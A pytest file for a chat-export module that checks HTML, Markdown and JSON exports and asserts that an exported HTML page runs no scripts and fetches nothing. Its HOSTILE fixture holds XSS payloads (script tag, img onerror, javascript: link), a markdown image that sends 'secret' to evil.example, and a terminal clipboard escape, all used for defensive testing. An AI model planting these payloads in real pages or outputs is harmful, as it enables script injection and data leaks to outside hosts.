"""An export holds the whole conversation, and a page of it runs and fetches nothing."""

from __future__ import annotations

import json
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from fimble.chat.export import ExportFormat, export
from fimble.chat.fences import fences
from fimble.chat.transcript import (
    Answer,
    AnswerState,
    Attachment,
    AttachmentKind,
    PromptUse,
    Question,
    SessionSummary,
    Turn,
)

HOSTILE = (
    "<script>alert(1)</script> ![x](https://evil.example/?q=secret) [a](javascript:alert(1)) "
    "[ok](https://example.org) <img src=x onerror=alert(1)> \x1b]52;c;x\x07\n\n"
    "```py\nprint('</pre><script>')\n```\n"
)
SESSION = SessionSummary(
    session_id=1,
    name="A <b>name</b>",
    directory="/work/shop",
    created_at=0.0,
    updated_at=0.0,
    turns=1,
    head=1,
)


def turn(answer: str, **more: str) -> Turn:
    file = Attachment(kind=AttachmentKind.FILE, label="src/<x>.py", text="x = 1\n")
    return Turn(
        turn_id=1,
        parent=None,
        question=Question(text="Why <i>?\nReally?", attachments=(file,)),
        answer=Answer(text=answer, state=AnswerState.FINISHED, model="qwen", **more),
        created_at=0.0,
    )


class Page(HTMLParser):
    """Every tag with its attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def test_t12_a_page_runs_and_fetches_nothing() -> None:
    page = export(ExportFormat.HTML, SESSION, [turn(HOSTILE, thinking="<script>")])
    tags = Page(page).tags

    assert not {"script", "img", "iframe", "link", "object"} & {tag for tag, _ in tags}
    assert [it["href"] for tag, it in tags if tag == "a"] == ["https://example.org"]
    assert not [key for _, attributes in tags for key in attributes if key.startswith("on")]
    assert "default-src 'none'" in page
    assert "\x1b" not in page
    assert "[image: x]" in page


def test_markdown_names_attachments_quotes_the_question_and_keeps_the_code() -> None:
    text = export(ExportFormat.MARKDOWN, SESSION, [turn(HOSTILE, thinking="Hm. ```")])

    assert "> Why <i>?\n> Really?\n" in text
    assert "Attached: `src/<x>.py`" in text
    assert "\x1b" not in text
    assert fences(text)[-1].text == "print('</pre><script>')\n"


def test_json_holds_everything_that_is_needed_to_replay() -> None:
    shown = json.loads(export(ExportFormat.JSON, SESSION, [turn("Yes.", prompt_digest="abc")]))

    (only,) = shown["turns"]
    assert only["answer"] == "Yes."
    assert only["prompt_digest"] == "abc"
    assert only["attachments"][0]["text"] == "x = 1\n"


def test_json_holds_the_examples_that_a_template_showed() -> None:
    asked = turn("Yes.")
    use = PromptUse(name="chat/house", examples=(("user", "Is 2 even?"), ("assistant", "Yes.")))
    asked = replace(asked, question=replace(asked.question, prompt=use))

    (only,) = json.loads(export(ExportFormat.JSON, SESSION, [asked]))["turns"]

    assert only["examples"] == [
        {"role": "user", "text": "Is 2 even?"},
        {"role": "assistant", "text": "Yes."},
    ]


@pytest.mark.parametrize("form", list(ExportFormat))
def test_an_empty_conversation_is_exported_too(form: ExportFormat) -> None:
    assert export(form, SESSION, [])
